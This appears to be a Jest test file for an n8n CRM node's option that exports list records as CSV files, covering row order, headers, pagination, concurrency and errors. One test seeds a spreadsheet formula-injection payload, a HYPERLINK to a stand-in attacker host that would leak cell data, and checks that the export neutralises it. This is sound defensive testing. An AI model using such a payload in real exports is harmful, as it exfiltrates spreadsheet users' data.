/** Put Output in File: the records of a list as a CSV file of the item. */
import type { IDataObject, INodeExecutionData, INodeParameters } from 'n8n-workflow';
import { seedTransactions } from '../../sandbox/index.cts';
import { byId, CONTINUE, CRM, errorText, failedTexts, useFixture } from './fixture.cts';

const fixture = useFixture({ clients: 1499, onRequest: () => afterRequest?.() });
let afterRequest: (() => void) | undefined;
beforeEach(() => {
	afterRequest = undefined;
});

const PERIOD = { period: 'custom', start: '2025-01-01', end: '2025-12-31' };

const transactions = (more: INodeParameters = {}): INodeParameters => ({
	resource: 'report',
	operation: 'getTransactions',
	...PERIOD,
	returnAll: true,
	...more,
});
const clients = (more: INodeParameters = {}): INodeParameters => ({
	resource: 'client',
	operation: 'getMany',
	returnAll: true,
	...more,
});
const IN_FILE = { putOutputInFile: true };

/** So many transactions, evenly over a year. */
function seed(count: number): void {
	const { data } = fixture.sandbox;
	data.transactions.length = 0;
	seedTransactions(data, count, { from: '2025-01-01', to: '2025-12-31' });
}

const textOf = ({ binary }: INodeExecutionData, field = 'data') =>
	Buffer.from(binary?.[field]?.data ?? '', 'base64').toString('utf8');

/** Cells of a file whose cells need no quotes. */
const cellsOf = (text: string) =>
	text
		.split('\r\n')
		.slice(0, -1)
		.map((line) => line.split(','));

async function fileOf(parameters: INodeParameters, items?: IDataObject[]) {
	const result = await fixture.run({ ...parameters, ...IN_FILE }, items);
	expect(result.error).toBeUndefined();
	const [item] = result.outputs('Done');
	return { item, text: textOf(item), all: result.outputs('Done') };
}

/** The first column of the file, without its header. */
const idsOf = (text: string) =>
	cellsOf(text)
		.slice(1)
		.map(([id]) => id);

async function idsAsItems(parameters: INodeParameters): Promise<string[]> {
	const result = await fixture.run(parameters);
	expect(result.error).toBeUndefined();
	return result.json(CRM).map(({ id }) => String(id));
}

describe('a file', () => {
	test('has the rows that come as items, in the same order, over periods that meet', async () => {
		seed(2300);
		for (const reportOrder of ['oldest-first', 'newest-first']) {
			if (reportOrder === 'newest-first') fixture.sandbox.data.transactions.reverse();
			const { item, text } = await fileOf(transactions());
			const ids = idsOf(text);
			expect(ids).toEqual(await idsAsItems(transactions()));
			expect(new Set(ids).size).toBe(2300);
			expect(item.json).toEqual({
				rows: 2300,
				fileName: 'transactions.csv',
				fileSize: Buffer.byteLength(text),
			});
		}
	});

	test('has a header of the fields that items have, also where there are no rows', async () => {
		seed(0);
		const { item, text } = await fileOf(transactions());
		expect(item.json.rows).toBe(0);
		seed(1);
		const [row] = (await fixture.run(transactions())).json(CRM);
		expect(cellsOf(text)).toEqual([Object.keys(row)]);
	});

	test('has all fields where Simplify is off', async () => {
		const { text } = await fileOf(clients({ simplify: false }));
		const [header] = cellsOf(text);
		expect(header).toEqual(expect.arrayContaining(['id', 'email', 'phone.number']));
		expect(text.split('\r\n')[1]).toContain('"[');
	});

	test.each([0, 1, 499, 500, 501, 998, 999, 1000, 1001])(
		'of %d clients is whole',
		async (count) => {
			const { data } = fixture.sandbox;
			data.clients = data.clients.filter(({ suspended }) => !suspended).slice(0, count);
			const { text } = await fileOf(clients());
			expect(text.match(/^[0-9a-z]{8},/gm) ?? []).toEqual(data.clients.map(({ id }) => `${id},`));
		},
	);

	test('is there for each item, in the field that was chosen, linked to it', async () => {
		const { all } = await fileOf(
			clients({ returnAll: false, limit: '={{ $json.limit }}', outputBinaryField: 'report' }),
			[{ limit: 2 }, { limit: 3 }],
		);
		expect(all.map(({ json }) => json.rows)).toEqual([2, 3]);
		expect(all.map(({ pairedItem }) => pairedItem)).toMatchObject([{ item: 0 }, { item: 1 }]);
		for (const { binary } of all) {
			expect(binary?.report).toMatchObject({
				fileName: 'clients.csv',
				mimeType: 'text/csv',
				fileExtension: 'csv',
			});
		}
	});

	test('has the name and the mark that were chosen', async () => {
		const options = { fileName: 'all.csv', addBom: true };
		const { item, text } = await fileOf(clients({ options }));
		expect(item.binary?.data.fileName).toBe('all.csv');
		expect(text.startsWith('\uFEFFid,')).toBe(true);
	});

	test('is there for lists without pages and for trees', async () => {
		const { item, text } = await fileOf({ resource: 'configuration', operation: 'getCountries' });
		expect(item.json.rows).toBe(text.split('\r\n').length - 2);
		const [client] = fixture.sandbox.data.clients;
		const tree = { resource: 'client', operation: 'getDownlines', userId: byId(client.id) };
		expect((await fileOf(tree)).item.json.rows).toBeGreaterThan(0);
	});

	test('runs in no spreadsheet', async () => {
		const { data } = fixture.sandbox;
		data.clients = data.clients.filter(({ suspended }) => !suspended).slice(0, 1);
		data.clients[0].name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
		const { text } = await fileOf(clients());
		expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1`);
	});

	test('has the rows that came meanwhile, each once', async () => {
		const { data } = fixture.sandbox;
		data.clients = data.clients.filter(({ suspended }) => !suspended);
		const before = data.clients.map(({ id }) => id);
		let requests = 0;
		afterRequest = () => {
			if (++requests !== 2) return;
			const [like] = data.clients;
			data.clients.unshift({ ...like, id: 'newfront' });
			data.clients.push({ ...like, id: 'newatend' });
		};
		const { text } = await fileOf(clients({ options: { maxConcurrentRequests: 1 } }));
		const ids = (text.match(/^[0-9a-z]{8}(?=,)/gm) ?? []) as string[];
		expect(ids.slice(0, before.length)).toEqual(before);
		expect(ids.slice(before.length).sort()).toEqual(['newatend', 'newfront']);
	});

	test('asks no more pages at once than the option allows', async () => {
		fixture.sandbox.faults.latencyMs = 20;
		await fileOf(clients({ options: { maxConcurrentRequests: 2 } }));
		expect(fixture.sandbox.inFlight.peak).toBe(2);
	});
});

describe('a list that can’t be read whole is an error, no short file', () => {
	test('because a page fails', async () => {
		fixture.sandbox.faults.rules = [
			{ match: { path: 'skip=998' }, times: Infinity, action: { status: 500 } },
		];
		const result = await fixture.run({ ...clients(), ...IN_FILE }, [{}], CONTINUE);
		expect(failedTexts(result.json('Done'))).toHaveLength(1);
		expect(result.outputs('Done')[0].binary).toBeUndefined();
	});

	test('because its pages never fit together', async () => {
		const { data } = fixture.sandbox;
		afterRequest = () => {
			for (const client of data.clients)
				client.id = `${client.id.slice(0, 4)}${Math.random().toString(36).slice(2, 6)}`;
		};
		const result = await fixture.run({ ...clients(), ...IN_FILE });
		expect(errorText(result)).toMatch(/could not be read (whole|completely)/);
	});
});

test('is no matter of operations that list nothing', async () => {
	const result = await fixture.run({
		resource: 'client',
		operation: 'get',
		id: byId(fixture.sandbox.data.clients[0].id),
		...IN_FILE,
	});
	expect(result.error).toBeUndefined();
	expect(result.outputs('Done')[0].binary).toBeUndefined();
});
